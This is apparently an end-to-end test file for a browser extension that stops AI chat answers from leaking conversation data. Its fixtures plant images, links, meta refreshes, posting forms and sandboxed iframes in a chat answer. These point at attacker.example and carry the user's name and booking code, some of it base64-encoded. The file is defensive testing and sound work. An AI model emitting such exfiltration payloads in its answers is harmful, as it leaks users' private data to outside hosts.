import type { Browser as ExtensionApis } from 'webextension-polyfill';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildExtension, outputFolder } from '../../scripts/build-extension';
import { launchChromium } from '../../scripts/drive/chromium';
import { findFirefox } from '../../scripts/find-browser.mjs';
import { launchFirefox } from '../../scripts/drive/firefox';
import {
  badgeText,
  badgeTitle,
  waitUntil,
  type GuardedBrowser,
  type GuardedTab,
} from '../../scripts/drive/guarded-browser';
import { startServer, type Answer, type LoopbackServer } from '../../scripts/drive/serve';
import { parseChatReport, type Attempt } from '../../lib/model/attempt';
import type { Settings } from '../../lib/model/settings';

declare const chrome: ExtensionApis;

/** A chat that is known by its host: rules of the manifest guard it from the first request on. */
const chat = 'http://chat.mistral.ai';
const chatId = 'le-chat';
const attacker = 'http://attacker.example';
const picture: Answer = {
  type: 'image/svg+xml',
  body: '<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><rect width="20" height="20" fill="green"/></svg>',
};
const page = (body: string) =>
  `<!doctype html><meta charset="utf-8"><title>A chat</title>
  <div data-message-author-role="user">My booking code is 482913, and my name is Jordan Example.</div>
  <div data-message-author-role="assistant" id="answer">${body}</div>`;

/** Every host of the world answers here: the browser has no other way out. */
function world({ host, path }: { host: string; path: string }): Answer | null {
  if (path.endsWith('.png')) return picture;
  if (path.endsWith('.js')) return { type: 'text/javascript', body: 'globalThis.loaded = true' };
  if (path === '/opener')
    return {
      type: 'text/html',
      body: '<!doctype html><script>window.opener.postMessage("opened", "*"); window.close()</script>',
    };
  if (host === 'selfhosted.example') {
    const mark = '<meta name="apple-mobile-web-app-title" content="Open WebUI">';
    return { type: 'text/html', body: mark + page('Welcome.') };
  }
  return {
    type: 'text/html',
    body: host.startsWith('chat.') ? page(`Chat ${path}.`) : `<!doctype html><title>${host}</title>`,
  };
}

const browsers = [
  {
    name: 'chromium',
    open: (port: number) => {
      if (!buildExtension('chrome')) throw new Error('The extension could not be built for Chromium.');
      return launchChromium({ extension: outputFolder('chrome'), onlyThrough: { port }, keepsWindows: true });
    },
  },
  ...(findFirefox()
    ? [
        {
          name: 'firefox',
          open: (port: number) => {
            if (!buildExtension('firefox')) throw new Error('The extension could not be built for Firefox.');
            return launchFirefox({
              extension: outputFolder('firefox'),
              onlyThrough: { port },
              keepsWindows: true,
            });
          },
        },
      ]
    : []),
];

describe.each(browsers)('the chat guard in $name', ({ open }) => {
  let server: LoopbackServer;
  let browser: GuardedBrowser;
  let tab: GuardedTab;

  beforeAll(async () => {
    server = await startServer(async (asked) => world(asked));
    browser = await open(server.port);
    tab = await browser.openTab();
  });
  afterAll(async () => {
    await browser.close();
    await server.close();
  });
  afterEach(() => change({ chatModes: {}, chatHosts: [], allowedHosts: [] }));

  const change = async (settings: Partial<Settings>) => {
    await browser.inExtension(
      (payload) => chrome.runtime.sendMessage({ name: 'change-settings', payload }),
      settings,
    );
  };
  const decide = (id: string, decision: string) =>
    browser.inExtension((payload) => chrome.runtime.sendMessage({ name: 'decide-in-tab', payload }), {
      tabId: tab.id,
      id,
      decision,
    });
  /** Requests so far to hosts that are no chat. */
  const left = () =>
    server.seen.filter((line) => / (?:attacker|honest|telemetry|preview)\.example/.test(line));
  /** Opens the chat anew and waits until the guard has read the conversation. */
  let visits = 0;
  const fresh = async () => {
    visits += 1;
    await tab.goto(`${chat}/c/${visits}`);
    await waitUntil(
      () =>
        browser.inExtension(
          async (key) => (await chrome.storage.session.get(key))[key],
          `conversation:${tab.id}`,
        ),
      (text) => JSON.stringify(text ?? '').includes(`Chat /c/${visits}.`),
    );
    const before = left().length;
    return () => left().slice(before);
  };
  /** An answer comes in, as chats put it there. */
  const say = (html: string) =>
    tab.evaluate((markup) => {
      const answer = document.getElementById('answer');
      if (answer) answer.innerHTML = markup;
    }, html);
  const attempts = async (): Promise<readonly Attempt[]> => {
    const stored = await browser.inExtension(
      async (key) => (await chrome.storage.session.get(key))[key],
      `chat:${tab.id}`,
    );
    return parseChatReport(stored)?.attempts ?? [];
  };
  const attemptsAre = (isEnough: (all: readonly Attempt[]) => boolean) => waitUntil(attempts, isEnough);
  const settled = () => new Promise((resolve) => setTimeout(resolve, 1200));
  /** Empty while the tab is between two pages. */
  const address = () => tab.evaluate(() => location.href, null).catch(() => '');

  it('holds a picture of an answer before anything leaves, and says what it carried', async () => {
    const gone = await fresh();
    await say(
      `<p>Done.</p><img src="${attacker}/p.png?d=${btoa('Jordan Example 482913')}"><img id="own" src="/own.png">`,
    );
    const [attempt] = await attemptsAre((all) => all.length === 1);
    expect(attempt).toMatchObject({ state: 'held', verdict: { kind: 'image', gravity: 'loud' } });
    expect(attempt?.verdict.carries[0]).toMatchObject({ text: 'Jordan Example 482913', steps: ['base64'] });
    await attemptsAre((all) => all[0]?.answer === 'Done.');
    await waitUntil(
      () => badgeText(browser, tab.id),
      (text) => text === '1',
    );
    expect(await badgeTitle(browser, tab.id)).toContain('1 attempt');
    expect(gone()).toEqual([]);
    const own = await tab.evaluate(() => {
      const image = document.getElementById('own');
      return image instanceof HTMLImageElement && image.complete && image.naturalWidth > 0;
    }, null);
    expect(own).toBe(true);
  });

  it('lets one address through, once, when the person says so', async () => {
    const gone = await fresh();
    await say(`<img src="${attacker}/once.png?d=1">`);
    const [attempt] = await attemptsAre((all) => all.length === 1);
    await settled();
    expect(await decide(attempt?.id ?? '', 'shown-once')).toBe(true);
    await waitUntil(
      async () => gone(),
      (lines) => lines.length === 1,
    );
    await say(`<img src="${attacker}/other.png?d=2">`);
    await attemptsAre((all) => all.length === 2);
    expect(gone()).toEqual(['GET attacker.example/once.png']);
    expect((await attempts())[0]?.state).toBe('shown-once');
  });

  it('allows a host in one chat, exactly, until it is taken back', async () => {
    const gone = await fresh();
    await say(`<img src="${attacker}/a.png">`);
    const [attempt] = await attemptsAre((all) => all.length === 1);
    await decide(attempt?.id ?? '', 'host-allowed');
    await waitUntil(
      async () => gone(),
      (lines) => lines.length === 1,
    );
    await say(`<img src="${attacker}/b.png"><img src="http://sub.attacker.example/c.png">`);
    await waitUntil(
      async () => gone(),
      (lines) => lines.includes('GET attacker.example/b.png'),
    );
    await change({ allowedHosts: [] });
    await say(`<img src="${attacker}/d.png">`);
    await attemptsAre((all) => all.some(({ url }) => url.endsWith('/d.png')));
    expect(gone()).toEqual(['GET attacker.example/a.png', 'GET attacker.example/b.png']);
  });

  it('keeps what is blocked blocked, and forgets nothing while its worker sleeps', async () => {
    const gone = await fresh();
    await say(`<img src="${attacker}/keep.png">`);
    const [attempt] = await attemptsAre((all) => all.length === 1);
    await decide(attempt?.id ?? '', 'kept');
    await browser.stopBackground();
    await say(`<img src="${attacker}/asleep.png">`);
    const all = await attemptsAre((now) => now.length === 2);
    expect(all.map(({ state }) => state)).toEqual(['kept', 'held']);
    expect(gone()).toEqual([]);
  });

  it('holds everything in sandboxed frames, which no initiator names', async () => {
    const gone = await fresh();
    const inner = `<img src='${attacker}/framed.png'><script src='${attacker}/framed.js'></script><script>fetch('${attacker}/fetched')</script>`;
    await say(`<iframe sandbox="allow-scripts" srcdoc="${inner}"></iframe>`);
    await attemptsAre((all) => all.length >= 3);
    expect(gone()).toEqual([]);
  });

  it('holds an own address that asks for a foreign one', async () => {
    await fresh();
    const before = server.seen.length;
    await say(
      `<img src="/_next/image?url=${encodeURIComponent('https://attacker.example/p')}&w=64"><img src="/_next/image.png?url=${encodeURIComponent('https://chat.mistral.ai/p')}&w=64">`,
    );
    const [attempt] = await attemptsAre((all) => all.length === 1);
    expect(attempt?.verdict.destination.receiver).toBe('attacker.example');
    await settled();
    expect(server.seen.slice(before).filter((line) => line.includes('_next'))).toEqual([
      'GET chat.mistral.ai/_next/image.png',
    ]);
  });

  it('lets scripts of the app ask whom they like in guard, and nobody else in strict', async () => {
    const gone = await fresh();
    const ask = () =>
      tab.evaluate(
        () =>
          fetch('http://telemetry.example/collect', { mode: 'no-cors' }).then(
            () => true,
            () => false,
          ),
        null,
      );
    expect(await ask()).toBe(true);
    await change({ chatModes: { [chatId]: 'strict' } });
    expect(await ask()).toBe(false);
    expect(gone()).toEqual(['GET telemetry.example/collect']);
  });

  it('shows everything and holds nothing while it only watches', async () => {
    await change({ chatModes: { [chatId]: 'watch' } });
    const gone = await fresh();
    await say(`<img src="${attacker}/watched.png?d=Jordan+Example+482913">`);
    const [attempt] = await attemptsAre((all) => all.length === 1);
    expect(attempt).toMatchObject({ state: 'let-through', verdict: { gravity: 'loud' } });
    expect(gone()).toEqual(['GET attacker.example/watched.png']);
  });

  it('leaves other sites alone, and guards one that the person adds', async () => {
    await tab.goto('http://honest.example/');
    const tried = () => server.seen.filter((line) => line.includes(' attacker.example/added'));
    const add = () =>
      tab.evaluate(() => {
        document.body.insertAdjacentHTML(
          'beforeend',
          `<img src="http://attacker.example/added-${Math.random()}.png">`,
        );
      }, null);
    await add();
    await waitUntil(
      async () => tried().length,
      (count) => count === 1,
    );
    await change({ chatHosts: ['honest.example'] });
    await add();
    await settled();
    expect(tried().length).toBe(1);
  });

  it('stops at a link that carries the conversation, and goes on when the person says so', async () => {
    const gone = await fresh();
    await say(`<a id="go" href="${attacker}/bill?for=Jordan+Example+482913">Your bill</a>`);
    await tab.click('#go');
    await waitUntil(address, (href) => href.includes('/leaving.html#'));
    const text = await waitUntil(
      () => tab.evaluate(() => document.body.innerText, null).catch(() => ''),
      (now) => now.includes('attacker.example'),
    );
    expect(text).toContain('Jordan Example 482913');
    expect(text).toContain('Your bill');
    expect(gone()).toEqual([]);
    await tab.click('.leaving-buttons .button:nth-child(3)');
    await waitUntil(address, (href) => href.startsWith(`${attacker}/bill?for=`));
  });

  it('goes by a harmless link at once, and never touches a typed address', async () => {
    await fresh();
    await say('<a id="fine" href="http://honest.example/article">An article</a>');
    await tab.click('#fine');
    await waitUntil(address, (href) => href === 'http://honest.example/article');
    await fresh();
    await tab.goto(`${attacker}/typed?for=Jordan+Example+482913`);
    expect(await address()).toBe(`${attacker}/typed?for=Jordan+Example+482913`);
  });

  it('stops at a link whose words name another site', async () => {
    const gone = await fresh();
    await say(`<a id="lie" href="${attacker}/">bank.example</a>`);
    await tab.click('#lie');
    await waitUntil(address, (href) => href.includes('/leaving.html#'));
    expect(gone()).toEqual([]);
  });

  it('stops a page that sends itself away', async () => {
    const gone = await fresh();
    await say(`<meta http-equiv="refresh" content="0;url=${attacker}/away?for=Jordan+Example+482913">`);
    await settled();
    await settled();
    expect(gone()).toEqual([]);
  });

  it('lives through a thousand pictures in one answer, and loses none', async () => {
    const gone = await fresh();
    await tab.evaluate(() => {
      const pictures = Array.from({ length: 1000 }, (_, n) => `<img src="http://attacker.example/${n}.png">`);
      const answer = document.getElementById('answer');
      if (answer) answer.innerHTML = pictures.join('');
    }, null);
    const all = await waitUntil(attempts, (now) => now.length === 200, 80_000);
    expect(all.some(({ verdict }) => verdict.reasons.includes('many-from-one-host'))).toBe(true);
    expect(gone()).toEqual([]);
    await say('Calm again.');
    expect(await tab.evaluate(() => document.querySelectorAll('img').length, null)).toBe(0);
  });

  it('holds addresses that are long or broken', async () => {
    const gone = await fresh();
    const long = `${attacker}/${'x'.repeat(1_000_000)}.png`;
    await say(`<img src="${long}"><img src="${attacker}/%E0%A4%A.png?%ff%fe=%80">`);
    await attemptsAre((all) => all.length === 2);
    expect(gone()).toEqual([]);
  });

  it('offers to guard a chat interface that it recognises, and guards it when asked to', async () => {
    const recognised = () =>
      browser.inExtension(
        async (key) => (await chrome.storage.session.get(key))[key],
        `recognised:${tab.id}`,
      );
    await tab.goto('http://selfhosted.example/');
    expect(await waitUntil(recognised, (now) => now !== undefined)).toMatchObject({ id: 'open-webui' });
    await tab.goto('http://honest.example/');
    await settled();
    expect(await recognised()).toBeUndefined();
    await change({ recognisedChats: 'apply' });
    await tab.goto('http://selfhosted.example/');
    const stored = () =>
      browser.inExtension(async () => (await chrome.storage.local.get('settings'))['settings'], null);
    await waitUntil(stored, (now) => JSON.stringify(now).includes('"chatHosts":["selfhosted.example"]'));
    await change({ recognisedChats: 'offer' });
    await say(`<img src="${attacker}/selfhosted.png">`);
    await attemptsAre((all) => all.length === 1);
    expect(left().filter((line) => line.includes('selfhosted.png'))).toEqual([]);
  });

  it('goes on under a new mode without a reload', async () => {
    const gone = await fresh();
    await change({ chatModes: { [chatId]: 'off' } });
    await say(`<img src="${attacker}/off.png">`);
    await waitUntil(
      async () => gone(),
      (lines) => lines.length === 1,
    );
    await change({ chatModes: {} });
    await say(`<img src="${attacker}/on.png">`);
    const [attempt] = await attemptsAre((all) => all.length === 1);
    await attemptsAre((all) => all[0]?.answer !== null);
    expect(attempt?.url).toBe(`${attacker}/on.png`);
    expect(gone()).toEqual(['GET attacker.example/off.png']);
  });

  it('lets the app post to another site, as signing in does, with its body', async () => {
    await fresh();
    await tab.evaluate(() => {
      document.body.insertAdjacentHTML(
        'beforeend',
        '<form id="saml" method="post" action="http://honest.example/saml"><input name="SAMLResponse" value="x"></form>',
      );
      const form = document.getElementById('saml');
      if (form instanceof HTMLFormElement) form.submit();
    }, null);
    await waitUntil(address, (href) => href === 'http://honest.example/saml');
    expect(server.seen.filter((line) => line.endsWith('honest.example/saml'))).toEqual([
      'POST honest.example/saml',
    ]);
  });

  it('stops at a made link that stands beside the answer, and at a form of the answer that posts', async () => {
    const gone = await fresh();
    await tab.evaluate((base) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<aside><a id="drawer" href="${base}/drawer?for=Jordan+Example+482913">Source</a></aside>`,
      );
    }, attacker);
    await settled();
    await tab.click('#drawer');
    await waitUntil(address, (href) => href.includes('/leaving.html#'));
    await fresh();
    await say(
      `<form method="post" action="${attacker}/posted"><input name="d" value="482913"><button id="send">Send</button></form>`,
    );
    await tab.click('#send');
    await settled();
    expect(await address()).toBe(`${chat}/c/${visits}`);
    expect(gone()).toEqual([]);
  });

  it('listens to no conversation where it is switched off', async () => {
    await fresh();
    await change({ chatModes: { [chatId]: 'off' } });
    await say('A secret that nobody keeps.');
    await settled();
    const kept = await browser.inExtension(
      async (key) => (await chrome.storage.session.get(key))[key] ?? null,
      `conversation:${tab.id}`,
    );
    expect(kept).toBeNull();
  });

  it('keeps the opener of a window that the app opens, for signing in elsewhere', async () => {
    await fresh();
    await tab.evaluate(() => {
      addEventListener('message', ({ data }) => (document.title = String(data)));
      document.body.insertAdjacentHTML('beforeend', '<button id="signin">Sign in</button>');
      document.getElementById('signin')?.addEventListener('click', () => {
        window.open('http://honest.example/opener');
      });
    }, null);
    await tab.click('#signin');
    const seen = await waitUntil(
      () => tab.evaluate(() => document.title, null),
      (title) => title === 'opened',
    );
    expect(seen).toBe('opened');
  });
});
